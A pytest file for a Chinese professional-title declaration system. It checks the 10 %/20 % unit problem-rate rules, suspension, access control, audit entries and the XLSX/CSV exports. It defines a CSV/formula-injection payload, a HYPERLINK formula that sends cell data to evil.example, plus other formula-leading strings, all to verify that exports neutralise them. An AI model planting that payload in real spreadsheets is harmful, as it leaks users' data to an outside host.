"""Office statistics, the unit problem-rate report followed through, and the XLSX exports,
on the real stack through the public API.

The rule (2023年度广西工艺美术系列通知 三（一）, seed 004) is quoted below and checked
against the seed: ≥ 10 % of a unit's recommended declarations found with problems asks
the unit for a 说明, ≥ 20 % for a 说明 and a 书面整改方案, and the 评委会组建单位 may
suspend the unit's next-year recommendations, which the next campaign enforces.
"""

from __future__ import annotations

import asyncio
import csv
import io
import zipfile
from datetime import UTC, datetime, timedelta

import openpyxl
from sqlmodel import select

from services.api.chain.textpdf import text_pdf
from services.api.models import AuditEntry
from services.api.statistics.exports import book
from services.api.statistics.service import requirement
from services.kit.db import make_engine, make_sessionmaker
from tests.api.factories import (
    OPS,
    SECTIONS,
    Tree,
    auth,
    campaign_body,
    complete_unit_step,
    make_tree,
    new_draft,
    post,
    submission,
    submit,
    token,
)
from tests.api.test_review_chain_e2e import UNIT_REVIEW
from tests.conftest import ROOT, Stack

RULE = (
    "对推荐至评委会的申报材料，经审核发现存在问题的比例达到或超过本单位申报总数 10%的，"
    "由推荐单位作出说明；达到或超过 20%的，由推荐单位作出说明并报送书面整改方案，"
    "评委会组建单位视问题情形和程度予以通报或暂停该推荐单位次年推荐申报权限。"
)
HOSTILE = '=HYPERLINK("http://evil.example/?x="&A1,"点击")'


def test_the_rule_is_the_seeds_and_its_thresholds_are_inclusive() -> None:
    # The policy seeds sit beside the checkout (shared/seeds/), where they are laid out.
    seed = ROOT.parent / "shared" / "seeds" / "004_45e6121143d927cc.txt"
    assert RULE in seed.read_text(encoding="utf-8")
    # "达到或超过": 1 of 10 is 10 % (a 说明), 2 of 10 is 20 % (and a 整改方案).
    assert requirement(10, 0)[0] == "none"
    assert requirement(11, 1)[0] == "none"  # 9.09 %
    assert requirement(10, 1)[0] == "explain"
    assert requirement(11, 2)[0] == "explain"  # 18.2 %
    assert requirement(10, 2)[0] == "rectify"
    assert requirement(5, 1)[0] == "rectify"
    assert "三（一）" in requirement(5, 1)[1]


def test_no_text_cell_becomes_a_formula() -> None:
    starts = [HOSTILE, "+SUM(1,1)", "-2+3", "@SUM(A1)", "\tcmd", "\rcmd", "普通文本", "a\x00b"]
    content = book("标题", "表", ["值"], [[s] for s in starts], "页脚")
    sheet = openpyxl.load_workbook(io.BytesIO(content)).active
    values = [sheet.cell(row=i, column=1) for i in range(3, 3 + len(starts))]
    # XML reads a stored carriage return back as a line feed; NUL cannot be stored at all.
    assert [c.value for c in values] == [*starts[:5], "\ncmd", "普通文本", "ab"]
    assert all(c.data_type == "s" for c in values)
    assert [c.quotePrefix for c in values] == [True] * 6 + [False, False]
    xml = zipfile.ZipFile(io.BytesIO(content)).read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in xml and "<f " not in xml


async def recommended(client, tree: Tree, campaign: dict, name: str) -> str:
    """A declaration filed and passed up by its unit (the unit's full step)."""
    applicant = token("applicant")
    sections = {**SECTIONS, "basic_info": {**SECTIONS["basic_info"], "name": name}}
    did = await new_draft(client, tree, campaign, applicant, sections=sections)
    r = await submit(client, did, applicant)
    assert r.status_code == 200, r.text
    unit = tree.tokens["unit_reviewer"]
    url = f"/v1/declarations/{did}"
    r = await client.put(url + "/unit-review", json=UNIT_REVIEW, headers=auth(unit))
    assert r.status_code == 200, r.text
    await complete_unit_step(client, did, unit)
    r = await post(client, url + "/approvals", unit, {"comment": "同意推荐"})
    assert r.status_code == 200 and r.json()["status"] == "supervisor_review", r.text
    return did


def pdf(title: str) -> tuple[str, bytes, str]:
    return (
        f"{title}.pdf",
        text_pdf(title, ["某单位关于申报材料问题的" + title]),
        "application/pdf",
    )


async def test_a_unit_at_20_percent_is_followed_up_and_suspended_next_year(
    client, stack: Stack
) -> None:
    tree = await make_tree(client, label="问题率")
    other = await make_tree(client, label="问题率他处")
    t = tree.tokens
    campaign = (await post(client, "/v1/campaigns", OPS, campaign_body())).json()
    cid = campaign["id"]
    names = [HOSTILE, "+SUM(1,1)", "韦一", "韦二", "韦三"]
    dids = await asyncio.gather(*(recommended(client, tree, campaign, n) for n in names))
    # The supervisor finds a problem in one of the five: 1 of 5 is 20 %.
    soon = (datetime.now(UTC) + timedelta(days=4)).isoformat()
    r = await post(
        client,
        f"/v1/declarations/{dids[2]}/returns",
        t["supervisor"],
        {"items": [{"message": "论文期刊目录页缺失"}], "deadline_at": soon},
    )
    assert r.status_code == 201, r.text

    r = await client.get(f"/v1/campaigns/{cid}/problem-rates", headers=auth(t["series_office"]))
    assert r.status_code == 200, r.text
    [rate] = [u for u in r.json() if u["unit_org_id"] == tree.unit]
    assert (rate["recommended"], rate["with_problems"], rate["share"]) == (5, 1, 0.2)
    assert rate["requirement"] == "rectify" and rate["follow_up_id"] is None
    # Another tree's office neither sees the unit's rate nor may act on it.
    r = await client.get(
        f"/v1/campaigns/{cid}/problem-rates", headers=auth(other.tokens["county_office"])
    )
    assert all(u["unit_org_id"] != tree.unit for u in r.json())
    body = {"unit_org_id": tree.unit}
    url = f"/v1/campaigns/{cid}/unit-follow-ups"
    r = await post(client, url, other.tokens["county_office"], body)
    assert r.status_code == 404 and r.json()["type"].endswith("unit-outside-jurisdiction")
    # A unit below 10 % is asked for nothing.
    r = await post(client, url, other.tokens["county_office"], {"unit_org_id": other.unit})
    assert r.status_code == 409 and r.json()["type"].endswith("problem-rate-below-threshold")

    r = await post(client, url, t["county_office"], body)
    assert r.status_code == 201, r.text
    follow_up = r.json()
    assert follow_up["requirement"] == "rectify" and "整改方案" in follow_up["requirement_zh"]
    r = await post(client, url, t["county_office"], body)
    assert r.status_code == 409 and r.json()["type"].endswith("unit-follow-up-exists")
    # The unit reads what is asked of it; another unit sees nothing and may not file.
    r = await client.get(url, headers=auth(t["unit_reviewer"]))
    assert [f["id"] for f in r.json()] == [follow_up["id"]]
    r = await client.get(url, headers=auth(other.tokens["unit_reviewer"]))
    assert r.json() == []
    docs = f"/v1/unit-follow-ups/{follow_up['id']}/documents"
    r = await client.post(
        docs + "/explanation",
        data={"kind": "unit_explanation"},
        files={"file": pdf("情况说明")},
        headers=auth(other.tokens["unit_reviewer"]),
    )
    assert r.status_code == 404 and r.json()["type"].endswith("unit-follow-up-not-found")
    # A plan sent as the explanation is refused (and not kept).
    r = await client.post(
        docs + "/explanation",
        data={"kind": "rectification_plan"},
        files={"file": pdf("整改方案")},
        headers=auth(t["unit_reviewer"]),
    )
    assert r.status_code == 422 and r.json()["type"].endswith("unit-follow-up-document-kind")
    for material, kind, title in (
        ("explanation", "unit_explanation", "情况说明"),
        ("plan", "rectification_plan", "书面整改方案"),
    ):
        r = await client.post(
            f"{docs}/{material}",
            data={"kind": kind},
            files={"file": pdf(title)},
            headers=auth(t["unit_reviewer"]),
        )
        assert r.status_code == 201, r.text
    filed = r.json()
    assert filed["explanation_document_id"] and filed["plan_document_id"]
    # The offices over the unit read them; the other tree's office may not.
    plan = f"/v1/unit-follow-ups/{follow_up['id']}/documents/{filed['plan_document_id']}/download"
    r = await client.get(plan, headers=auth(t["series_office"]))
    assert r.status_code == 200 and r.json()["url"].startswith("http"), r.text
    r = await client.get(plan, headers=auth(other.tokens["county_office"]))
    assert r.status_code == 404 and r.json()["type"].endswith("unit-follow-up-not-found")

    # Suspension is the 评委会组建单位's: the county office may not.
    suspension = f"/v1/unit-follow-ups/{follow_up['id']}/suspension"
    reason = {"reason": "推荐材料问题比例达20%，整改方案未落实审核责任"}
    r = await post(client, suspension, t["county_office"], reason)
    assert r.status_code == 403
    r = await post(client, suspension, t["committee_office"], reason)
    assert r.status_code == 200, r.text
    assert r.json()["suspended_year"] == 2023
    r = await post(client, suspension, t["committee_office"], reason)
    assert r.status_code == 409 and r.json()["type"].endswith("unit-already-suspended")

    # Each step is one audit row, citing the clause.
    engine = make_engine(stack.database_url)
    try:
        async with make_sessionmaker(engine)() as session:
            rows = (
                await session.exec(
                    select(AuditEntry)
                    .where(
                        AuditEntry.action.in_(
                            (
                                "unit_follow_up_requested",
                                "unit_follow_up_filed",
                                "unit_recommendations_suspended",
                            )
                        ),
                        AuditEntry.actor_sub.in_(
                            ("问题率-county", "问题率-unit", "问题率-committee")
                        ),
                    )
                    .order_by(AuditEntry.seq)
                )
            ).all()
    finally:
        await engine.dispose()
    assert [(a.action, a.actor_role) for a in rows] == [
        ("unit_follow_up_requested", "county_office"),
        ("unit_follow_up_filed", "unit_reviewer"),
        ("unit_follow_up_filed", "unit_reviewer"),
        ("unit_recommendations_suspended", "committee_office"),
    ]
    assert all("三（一）" in a.reason for a in rows)

    # The exports: the hostile names stay text.
    for kind in ("recommendation-roster", "material-summary"):
        r = await client.get(
            f"/v1/campaigns/{cid}/exports/{kind}", headers=auth(t["county_office"])
        )
        assert r.status_code == 200, r.text
        sheet = openpyxl.load_workbook(io.BytesIO(r.content)).active
        cells = {
            sheet.cell(row=i, column=2).value: sheet.cell(row=i, column=2) for i in range(3, 8)
        }
        assert set(cells) == set(names)
        assert cells[HOSTILE].data_type == "s" and cells[HOSTILE].quotePrefix
        xml = zipfile.ZipFile(io.BytesIO(r.content)).read("xl/worksheets/sheet1.xml").decode()
        assert "<f>" not in xml
    # The unit's own posting list (公示名册) keeps them text as well.
    r = await client.get(
        f"/v1/campaigns/{cid}/posting-list?format=xlsx", headers=auth(t["unit_reviewer"])
    )
    sheet = openpyxl.load_workbook(io.BytesIO(r.content)).active
    [hostile] = [c for row in sheet.iter_rows() for c in row if c.value == HOSTILE]
    assert hostile.data_type == "s" and hostile.quotePrefix
    xml = zipfile.ZipFile(io.BytesIO(r.content)).read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in xml
    # …and so does its CSV: the field starts with an apostrophe, which a spreadsheet shows
    # as text (OWASP CSV injection); no field of the list begins like a formula.
    r = await client.get(f"/v1/campaigns/{cid}/posting-list", headers=auth(t["unit_reviewer"]))
    assert r.status_code == 200, r.text
    fields = [f for row in csv.reader(io.StringIO(r.content.decode("utf-8-sig"))) for f in row]
    assert "'" + HOSTILE in fields
    assert not [f for f in fields if f.startswith(("=", "+", "-", "@", "\t", "\r"))]
    # The other tree's office exports none of this unit's declarations.
    r = await client.get(
        f"/v1/campaigns/{cid}/exports/recommendation-roster",
        headers=auth(other.tokens["county_office"]),
    )
    sheet = openpyxl.load_workbook(io.BytesIO(r.content)).active
    assert not any(c.value == HOSTILE for row in sheet.iter_rows() for c in row)

    # The next year's campaign refuses the unit's declarations at submission.
    next_year = {
        **campaign_body(),
        "year": 2023,
        "evaluate_on": "2023-07-31",
        "name": "柳州市2023年度工程系列职称申报（测试）",
    }
    r = await post(client, "/v1/campaigns", OPS, next_year)
    assert r.status_code == 201, r.text
    campaign_2023 = r.json()
    applicant = token("applicant")
    did = await new_draft(client, tree, campaign_2023, applicant)
    r = await submission(client, f"/v1/declarations/{did}/submissions", applicant)
    assert r.status_code == 409, r.text
    problem = r.json()
    assert problem["type"] == "urn:zhicheng:problem:unit-recommendations-suspended"
    assert "暂停" in problem["detail"] and "三（一）" in problem["detail"]
    assert "10%" in problem["detail"] and problem["suspended_year"] == 2023
    # Another unit in the same campaign is not held back by it.
    applicant = token("applicant")
    did = await new_draft(client, other, campaign_2023, applicant)
    r = await submission(client, f"/v1/declarations/{did}/submissions", applicant)
    assert not r.json().get("type", "").endswith("unit-recommendations-suspended"), r.text


async def test_ten_percent_asks_for_a_note_only_and_rises_to_a_plan_at_twenty(client) -> None:
    tree = await make_tree(client, label="说明")
    t = tree.tokens
    campaign = (await post(client, "/v1/campaigns", OPS, campaign_body())).json()
    cid = campaign["id"]
    dids = await asyncio.gather(
        *(recommended(client, tree, campaign, f"说明{i}") for i in range(10))
    )
    soon = (datetime.now(UTC) + timedelta(days=4)).isoformat()

    async def found_problem(did: str) -> None:
        r = await post(
            client,
            f"/v1/declarations/{did}/returns",
            t["supervisor"],
            {"items": [{"message": "业绩证明未盖章"}], "deadline_at": soon},
        )
        assert r.status_code == 201, r.text

    await found_problem(dids[0])  # 1 of 10: 10 %
    url = f"/v1/campaigns/{cid}/unit-follow-ups"
    r = await post(client, url, t["series_office"], {"unit_org_id": tree.unit})
    assert r.status_code == 201, r.text
    follow_up = r.json()
    assert follow_up["requirement"] == "explain"
    assert (follow_up["recommended"], follow_up["with_problems"]) == (10, 1)
    # A 说明 only: no plan is taken, and no suspension under 20 %.
    docs = f"/v1/unit-follow-ups/{follow_up['id']}/documents"
    r = await client.post(
        docs + "/plan",
        data={"kind": "rectification_plan"},
        files={"file": pdf("书面整改方案")},
        headers=auth(t["unit_reviewer"]),
    )
    assert r.status_code == 409 and r.json()["type"].endswith("unit-follow-up-document-not-asked")
    suspension = f"/v1/unit-follow-ups/{follow_up['id']}/suspension"
    r = await post(client, suspension, t["committee_office"], {"reason": "问题较多"})
    assert r.status_code == 409 and r.json()["type"].endswith("suspension-needs-rectification")
    r = await post(client, url, t["series_office"], {"unit_org_id": tree.unit})
    assert r.status_code == 409 and r.json()["type"].endswith("unit-follow-up-exists")

    await found_problem(dids[1])  # 2 of 10: 20 %, the same request raised to a plan
    r = await post(client, url, t["series_office"], {"unit_org_id": tree.unit})
    assert r.status_code == 201, r.text
    assert r.json()["id"] == follow_up["id"] and r.json()["requirement"] == "rectify"
    assert r.json()["with_problems"] == 2
    r = await client.post(
        docs + "/plan",
        data={"kind": "rectification_plan"},
        files={"file": pdf("书面整改方案")},
        headers=auth(t["unit_reviewer"]),
    )
    assert r.status_code == 201, r.text
    r = await client.get(f"/v1/campaigns/{cid}/problem-rates", headers=auth(t["county_office"]))
    [rate] = [u for u in r.json() if u["unit_org_id"] == tree.unit]
    assert rate["follow_up_id"] == follow_up["id"] and rate["requirement"] == "rectify"
